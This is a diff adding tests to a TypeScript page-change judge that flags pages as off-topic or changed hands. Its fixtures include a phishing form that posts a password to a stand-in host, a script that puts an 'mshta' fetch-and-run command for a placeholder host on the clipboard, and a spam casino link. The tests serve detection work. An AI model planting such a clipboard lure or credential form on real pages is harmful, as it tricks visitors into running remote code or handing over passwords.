@@ -191,3 +191,30 @@ it("an entry's address that shows an empty list has lost it, and the list's own 
   const all = list("Dry stone walling, hedge laying, charcoal burning and green wood turning on the hill.");
   expect(judge(list("No courses just now: new dates in May."), all, address)).not.toBe("soft-404");
 });
+
+describe("a page with the very words that were approved", () => {
+  const judge = (then: string, now: string) => {
+    const before = toPagePicture(address, address, page("Units", lessons + then), "2026-11-01");
+    return judgeAnswer(page("Units", lessons + now), before);
+  };
+  const form = (to: string) => `<form action="https://${to}/g"><input name="id"><input type="password"></form>`;
+  const command = "<script>onclick=()=>navigator.clipboard.writeText('mshta https://x.example/a')</script>";
+
+  it("is asked about where it sends a password to strangers now, and not where it was approved so", () => {
+    expect(judge("", form("collect.example"))).toBe("off-topic");
+    expect(judge(form("id.example"), form("collect.example"))).toBe("off-topic");
+    expect(judge(form("id.example"), form("id.example"))).toBe("ok");
+  });
+
+  it("has changed hands where visitors are to paste a command", () => {
+    expect(judge("", command)).toBe("changed-hands");
+    expect(judge(command, command)).toBe("ok");
+  });
+
+  it("is asked about where it links to casinos that it did not link to", () => {
+    const casino = '<a href="https://best-casino.example/">.</a>';
+    expect(judge("", casino)).toBe("off-topic");
+    expect(judge(casino, casino)).toBe("ok");
+    expect(judge("", '<a href="https://museum.example/">.</a>')).toBe("ok");
+  });
+});
